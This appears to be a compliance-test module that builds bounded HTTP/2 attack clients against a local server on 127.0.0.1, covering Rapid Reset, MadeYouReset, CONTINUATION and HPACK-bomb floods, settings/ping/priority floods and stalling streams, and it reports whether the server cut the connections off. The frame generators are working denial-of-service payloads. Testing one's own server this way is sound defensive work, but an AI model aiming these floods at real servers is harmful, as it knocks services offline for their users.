"""Clients that mean harm, each after a known weakness of HTTP/2 servers; bounded in count and time.

Started as ``python -m tests.compliance.http2_attackers NAME PORT CONNECTIONS SECONDS``. Opens the connections evenly
over the seconds, those that stall at once; on each it sends its whole flood, or until it is shut out, and stays until
the end. Prints one JSON object: connections made, bytes that were taken, how many connections were shut.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from hpack import Encoder

from tests.router.http2.frames import END_HEADERS, END_STREAM, PREFACE, Kind, Setting, frame, settings_payload

FLOOD = 20_000
"""Frames on one connection, unless it is shut before."""
STREAMS = 100
"""How many streams one connection may hold open."""


def head(path: str = "/", *more: tuple[str, str], method: str = "GET") -> bytes:
    """A header block that changes no table, so that it may be sent on any stream."""
    fields = [(":method", method), (":scheme", "http"), (":authority", "app.example.com"), (":path", path), *more]
    return Encoder().encode([(name, value, True) for name, value in fields])


def request(stream: int, block: bytes, flags: int = END_HEADERS | END_STREAM) -> bytes:
    return frame(Kind.HEADERS, flags, stream, block)


def word(value: int) -> bytes:
    return struct.pack(">I", value)


def greeting(**settings: int) -> bytes:
    values: dict[int, int] = {Setting[name]: value for name, value in settings.items()}
    return PREFACE + frame(Kind.SETTINGS, 0, 0, settings_payload(values))


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: requests that are taken back at once."""
    yield greeting()
    block = head("/never")
    for stream in range(1, 2 * FLOOD, 2):
        yield request(stream, block) + frame(Kind.RST_STREAM, 0, stream, word(8))


def made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: requests followed by a fault that makes the server take them back."""
    yield greeting()
    block = head("/never")
    faults = [
        lambda stream: frame(Kind.WINDOW_UPDATE, 0, stream, word(0)),
        lambda stream: frame(Kind.DATA, END_STREAM, stream, b"x"),
        lambda stream: frame(Kind.WINDOW_UPDATE, 0, stream, word(2**31 - 1)),
        lambda stream: request(stream, block),
    ]
    for number, stream in enumerate(range(1, 2 * FLOOD, 2)):
        yield request(stream, block) + faults[number % len(faults)](stream)


def malformed_requests() -> Iterator[bytes]:
    """The same with heads that are refused."""
    yield greeting()
    block = head("/", ("X-Upper", "1"))
    for stream in range(1, 2 * FLOOD, 2):
        yield request(stream, block)


def continuation_flood() -> Iterator[bytes]:
    """CVE-2024-27316 and its kin: a header block without end."""
    yield greeting() + request(1, head(), END_STREAM)
    for _ in range(FLOOD // 10):
        yield frame(Kind.CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 1000)


def empty_continuation_flood() -> Iterator[bytes]:
    yield greeting() + request(1, head(), END_STREAM)
    for _ in range(FLOOD):
        yield frame(Kind.CONTINUATION, 0, 1)


def hpack_bomb() -> Iterator[bytes]:
    """CVE-2016-6581: one large table entry, named over and over."""
    yield greeting()
    entry = b"\x40\x01x\x7f\x81\x1e" + b"y" * 3968
    for stream in range(1, 100, 2):
        yield request(stream, head() + entry + b"\xbe" * 12_000)


def settings_flood() -> Iterator[bytes]:
    """CVE-2019-9515."""
    yield greeting()
    for number in range(FLOOD):
        yield frame(Kind.SETTINGS, 0, 0, settings_payload({Setting.INITIAL_WINDOW_SIZE: number}))


def ping_flood() -> Iterator[bytes]:
    """CVE-2019-9512."""
    yield greeting()
    for _ in range(FLOOD):
        yield frame(Kind.PING, 0, 0, b"pingping")


def priority_flood() -> Iterator[bytes]:
    """CVE-2019-9513."""
    yield greeting()
    for number in range(FLOOD):
        yield frame(Kind.PRIORITY, 0, 2 * number + 1, word(2 * number + 3) + b"\x10")


def empty_data_flood() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield greeting() + request(1, head("/take", method="POST"), END_HEADERS)
    for _ in range(FLOOD):
        yield frame(Kind.DATA, 0, 1)


def unknown_frames() -> Iterator[bytes]:
    yield greeting()
    for _ in range(FLOOD):
        yield frame(0xBE, 0, 0)


def tiny_window_updates() -> Iterator[bytes]:
    """CVE-2019-9511: a large body, taken byte by byte."""
    yield greeting(INITIAL_WINDOW_SIZE=0) + request(1, head("/send/10000000"))
    time.sleep(0.05)
    for _ in range(FLOOD):
        yield frame(Kind.WINDOW_UPDATE, 0, 1, word(1))


def zero_windows() -> Iterator[bytes]:
    """CVE-2019-9517: many large bodies, none of them taken."""
    block = head("/send/1000000")
    yield greeting(INITIAL_WINDOW_SIZE=0)
    for stream in range(1, 2 * STREAMS, 2):
        yield request(stream, block)


def half_open_streams() -> Iterator[bytes]:
    """Uploads that begin and do not go on."""
    block = head("/take", ("content-length", "1000000"), method="POST")
    yield greeting()
    for stream in range(1, 2 * STREAMS, 2):
        yield request(stream, block, END_HEADERS) + frame(Kind.DATA, 0, stream, b"x" * 1000)


def half_a_head() -> Iterator[bytes]:
    """A header block that begins and does not go on."""
    yield greeting() + request(1, head()[:5], END_STREAM)


STALLING = (zero_windows, half_open_streams, half_a_head)
FLOODING = (
    *(rapid_reset, made_you_reset, malformed_requests, continuation_flood, empty_continuation_flood, hpack_bomb),
    *(settings_flood, ping_flood, priority_flood, empty_data_flood, unknown_frames, tiny_window_updates),
)
ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {made.__name__: made for made in (*FLOODING, *STALLING)}
STALLS = frozenset(made.__name__ for made in STALLING)


class Attacker:
    """One connection. Reads what it is told, so that it can be told that it is shut out, and otherwise ignores it."""

    def __init__(self, port: int) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), 5)
        self.taken = 0
        self.shut = False

    def flood(self, pieces: Iterator[bytes], until: float) -> None:
        waiting = b""
        for piece in pieces:
            waiting += piece
            if len(waiting) >= 16384:
                self._send(waiting)
                waiting = b""
            if self.shut or time.monotonic() > until:
                return
        self._send(waiting)

    def _send(self, data: bytes) -> None:
        try:
            self._socket.sendall(data)
            self.taken += len(data)
        except OSError:
            self.shut = True
        self.listen()

    def listen(self) -> None:
        """Throw away what there is to read."""
        try:
            while not self.shut and select.select([self._socket], [], [], 0)[0]:
                self.shut = not self._socket.recv(65536)
        except OSError:
            self.shut = True

    def close(self) -> None:
        self._socket.close()


def main(name: str, port: int, connections: int, seconds: float) -> None:
    began = time.monotonic()
    attackers: list[Attacker] = []
    for number in range(connections):
        begin = began if name in STALLS else began + seconds * number / connections
        time.sleep(max(0.0, begin - time.monotonic()))
        attacker = Attacker(port)
        attackers.append(attacker)
        attacker.flood(ATTACKS[name](), began + seconds)
    time.sleep(max(0.0, began + seconds - time.monotonic()))
    for attacker in attackers:
        if not attacker.shut:
            attacker.listen()
    shut = sum(attacker.shut for attacker in attackers)
    print(json.dumps({"connections": connections, "bytes": sum(a.taken for a in attackers), "shut": shut}))
    for attacker in attackers:
        attacker.close()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
